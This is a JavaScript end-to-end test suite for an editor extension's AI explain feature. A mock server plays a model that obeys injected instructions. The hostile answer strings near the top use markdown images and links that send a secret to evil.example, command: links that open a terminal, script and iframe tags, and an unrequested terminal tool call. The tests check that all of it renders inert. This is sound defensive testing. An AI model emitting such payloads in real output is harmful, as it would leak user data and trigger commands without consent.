import assert from "node:assert/strict";
import { once } from "node:events";
import { writeFileSync } from "node:fs";
import { createServer } from "node:http";
import path from "node:path";
import { settledAnswer } from "../support/workbench/answers.mjs";
import { comments, commentTexts, thread, titleButton } from "../support/workbench/comments.mjs";
import { dialog, openFile, runCommand, selectLines } from "../support/workbench/driver.mjs";
import { screenshot } from "../support/workbench/look.mjs";
import { askInPanel, dropIntoPanel, panel } from "../support/workbench/panel.mjs";
import { pictureWithOrders, sumCode, watch } from "./hostile.mjs";
import { picturesFolder, startSession } from "./session.mjs";

const hostileAnswer = [
  "![x](https://evil.example/?q=SECRET)",
  "[![x](https://evil.example/a)](command:workbench.action.terminal.new)",
  "[Continue](command:workbench.action.terminal.new) [Site](https://evil.example/b)",
  '<img src="https://evil.example/c" onerror="alert(1)"><script src="https://evil.example/d"></script>',
  "<a href='command:workbench.action.terminal.new'>Click</a> <iframe src=https://evil.example/e></iframe>",
];

/** A server that answers as a model would that obeys whatever it reads: with all of it, and with a call of a tool. */
async function startObeyingServer() {
  const call = { index: 0, id: "call-1", type: "function", function: { name: "terminal", arguments: "{}" } };
  const deltas = [...hostileAnswer.map((content) => ({ content: `${content}\n\n` })), { tool_calls: [call] }];
  const pictures = [];
  const server = createServer(async (request, response) => {
    if (request.url === "/v1/models") {
      response.end(JSON.stringify({ data: [{ id: "obeying", owned_by: "test" }] }));
      return;
    }
    if (request.url !== "/v1/chat/completions") {
      response.writeHead(404).end("{}");
      return;
    }
    let body = "";
    for await (const chunk of request) body += chunk;
    const hasPicture = body.includes('"image_url"');
    if (!body.includes('"stream":true')) {
      const usage = { prompt_tokens: hasPicture ? 90 : 10 }; // it reads pictures
      response.end(JSON.stringify({ choices: [], usage }));
      return;
    }
    pictures.push(hasPicture);
    assert.ok(!/"(tools|functions)"/.test(body), "a question offers tools");
    response.writeHead(200, { "content-type": "text/event-stream" });
    for (const delta of deltas)
      response.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: null }] })}\n\n`);
    const last = { choices: [{ index: 0, delta: {}, finish_reason: "tool_calls" }] };
    response.end(`data: ${JSON.stringify(last)}\n\ndata: [DONE]\n\n`);
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  return { host: `127.0.0.1:${server.address().port}`, pictures, server };
}

describe("an answer that obeys what it read", function () {
  this.timeout(180_000);
  let obeying;
  let session;
  let page;
  let isInert;
  before(async () => {
    obeying = await startObeyingServer();
    session = await startSession({
      files: { "prices.ts": sumCode },
      settings: { "gloss.remote.url": `http://${obeying.host}`, "gloss.engine.place": "server" },
      height: 900,
    });
    page = session.page;
    isInert = watch(page);
    await openFile(page, "prices.ts");
  });
  after(async () => {
    await session?.stop();
    obeying?.server.closeAllConnections();
    obeying?.server.close();
  });

  it("is text in a thread: nothing is fetched, and no link runs a command", async () => {
    await selectLines(page, 1, 7);
    await runCommand(page, "Gloss: Explain Selection");
    await dialog(page, `go to ${obeying.host}`)
      .getByRole("button", { name: `Send to ${obeying.host}` })
      .click();
    await settledAnswer(thread(page));
    assert.match((await commentTexts(thread(page)))[1], /evil\.example/);
    await clickLinks(comments(thread(page)));
    await screenshot(page, path.join(picturesFolder, "hostile-answer-thread.png"));
  });

  it("is text in the panel, also about a picture", async () => {
    await titleButton(thread(page), "Dismiss").click();
    await runCommand(page, "Gloss: New Conversation");
    const { view, chips, answers } = panel(page);
    await view.locator(".empty").waitFor();
    const picture = path.join(session.server.profile.root, "orders.png");
    writeFileSync(picture, await pictureWithOrders(page));
    await dropIntoPanel(page, picture);
    await chips.locator(".chip-detail").waitFor();
    assert.match(await askInPanel(page, "Describe this screenshot."), /evil\.example/);
    assert.equal(obeying.pictures.at(-1), true);
    await clickLinks(answers);
    await screenshot(page, path.join(picturesFolder, "hostile-answer-panel.png"));
  });

  /** Clicks all that looks like a link; a web address may ask, and is not opened. */
  async function clickLinks(answer) {
    await isInert();
    for (const link of await answer.locator("a[href], a[data-href]").all()) {
      await link.click();
      const question = dialog(page, "open the external website");
      await question.getByRole("button", { name: "Cancel" }).click();
      await question.waitFor({ state: "detached" });
    }
    await isInert();
    assert.equal(await page.locator(".terminal-wrapper").count(), 0);
  }
});
